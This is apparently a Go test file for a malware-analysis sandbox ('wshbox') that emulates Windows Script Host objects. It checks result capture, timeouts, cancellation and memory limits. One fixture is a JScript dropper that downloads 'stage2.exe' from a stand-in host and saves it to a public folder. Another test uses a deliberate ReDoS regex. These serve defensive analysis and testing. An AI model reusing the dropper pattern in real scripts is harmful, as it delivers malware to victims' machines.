package engine

import (
	"bytes"
	"context"
	"errors"
	"os"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/arturoeanton/wshbox/ioc"
	"github.com/arturoeanton/wshbox/logger"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// workerEnv makes the test binary serve one worker request instead of
// running the tests.
const workerEnv = "WSHBOX_ENGINE_TEST_WORKER"

func TestMain(m *testing.M) {
	if os.Getenv(workerEnv) == "1" {
		req, err := ReadWorkerRequest(os.Stdin)
		if err != nil {
			os.Exit(ExitInputError)
		}
		os.Exit(req.Serve(context.Background(), os.Stdout))
	}
	os.Exit(m.Run())
}

func newIsolatedRunner(t *testing.T, config *Config) *IsolatedRunner {
	t.Helper()
	log := logger.New("test", logger.LevelError)
	log.SetOutput(&bytes.Buffer{})
	ir, err := NewIsolatedRunner(config, IsolationOptions{
		Command: []string{os.Args[0]},
		Env:     []string{workerEnv + "=1"},
		Logger:  log,
	})
	require.NoError(t, err)
	return ir
}

const dropperWithFile = `
var x = new ActiveXObject("MSXML2.XMLHTTP");
x.open("GET", "http://example.test/stage2.exe", false);
x.send();
var s = new ActiveXObject("ADODB.Stream");
s.Open();
s.Type = 2;
s.WriteText("MZ payload");
s.SaveToFile("C:\\Users\\Public\\stage2.exe", 2);
s.Close();
`

func TestIsolatedRunnerReturnsFullResult(t *testing.T) {
	config := DefaultConfig()
	config.Sandbox.TimeoutSeconds = 5
	ir := newIsolatedRunner(t, config)

	var mu sync.Mutex
	var live []ioc.Event
	res, err := ir.Analyze(context.Background(), "drop.js", []byte(dropperWithFile), func(e ioc.Event) {
		mu.Lock()
		live = append(live, e)
		mu.Unlock()
	})
	require.NoError(t, err)

	assert.Equal(t, StateCompleted, res.State)
	assert.Equal(t, ExitOK, res.ExitCode)
	assert.Equal(t, []string{"http://example.test/stage2.exe"}, res.URLs)
	assert.NotEmpty(t, res.Rewritten)
	require.Len(t, res.Resources, 1)
	assert.Equal(t, "MZ payload", string(res.Resources[0].Data))

	mu.Lock()
	defer mu.Unlock()
	assert.Len(t, live, len(res.Events))
}

func TestIsolatedRunnerKeepsErrorKind(t *testing.T) {
	config := DefaultConfig()
	config.Sandbox.TimeoutSeconds = 5
	ir := newIsolatedRunner(t, config)

	res, err := ir.Analyze(context.Background(), "bad.js", []byte(`new ActiveXObject("Nope.Nothing");`))
	require.Error(t, err)
	assert.Equal(t, ExitUnknownObject, ExitCode(err))
	assert.Equal(t, ExitUnknownObject, res.ExitCode)
	assert.Equal(t, StateFaulted, res.State)

	var werr *WorkerError
	require.True(t, errors.As(err, &werr))
	assert.Contains(t, werr.Message, "Nope.Nothing")
}

func TestIsolatedRunnerKillsNativeStall(t *testing.T) {
	config := DefaultConfig()
	config.Sandbox.TimeoutSeconds = 1
	config.Sandbox.KillGraceMS = 500
	ir := newIsolatedRunner(t, config)

	// The backtracking match runs inside the regexp engine, where the
	// interpreter cannot be interrupted.
	src := `
		new ActiveXObject("MSXML2.XMLHTTP").open("GET", "http://example.test/before", false);
		/^(a+)+(?=c)/.test("` + strings.Repeat("a", 34) + `b");
	`
	start := time.Now()
	res, err := ir.Analyze(context.Background(), "stall.js", []byte(src))
	elapsed := time.Since(start)

	require.ErrorIs(t, err, ErrTimeout)
	assert.Less(t, elapsed, 10*time.Second)
	assert.Equal(t, StateTimedOut, res.State)
	assert.Equal(t, ExitTimeout, res.ExitCode)
	assert.Equal(t, []string{"http://example.test/before"}, res.URLs)
	assert.NotEmpty(t, res.SHA256)
}

func TestIsolatedRunnerCancelled(t *testing.T) {
	config := DefaultConfig()
	config.Sandbox.TimeoutSeconds = 30
	ir := newIsolatedRunner(t, config)

	ctx, cancel := context.WithCancel(context.Background())
	time.AfterFunc(300*time.Millisecond, cancel)
	res, err := ir.Analyze(ctx, "loop.js", []byte(`while (true) {}`))

	require.ErrorIs(t, err, context.Canceled)
	assert.Equal(t, StateFaulted, res.State)
	assert.Equal(t, ExitRuntimeFault, res.ExitCode)
}

func TestIsolatedMemoryBudgetIsPerRun(t *testing.T) {
	config := DefaultConfig()
	config.Sandbox.TimeoutSeconds = 10
	config.Sandbox.MaxMemoryMB = 64
	ir := newIsolatedRunner(t, config)

	var (
		wg       sync.WaitGroup
		heavyErr error
		lightRes *Result
		lightErr error
	)
	wg.Add(2)
	go func() {
		defer wg.Done()
		_, heavyErr = ir.Analyze(context.Background(), "heavy.js", []byte(`
			var keep = [];
			for (;;) { keep.push(new Array(100000).join("x") + keep.length); }
		`))
	}()
	go func() {
		defer wg.Done()
		lightRes, lightErr = ir.Analyze(context.Background(), "light.js", []byte(`
			var n = 0;
			for (var i = 0; i < 2000000; i++) { n += i; }
		`))
	}()
	wg.Wait()

	assert.ErrorIs(t, heavyErr, ErrMemoryLimit)
	require.NoError(t, lightErr)
	assert.Equal(t, StateCompleted, lightRes.State)
}

func TestStateTextRoundTrip(t *testing.T) {
	var s State
	require.NoError(t, s.UnmarshalText([]byte("timed out")))
	assert.Equal(t, StateTimedOut, s)
	assert.Error(t, s.UnmarshalText([]byte("sleeping")))
}
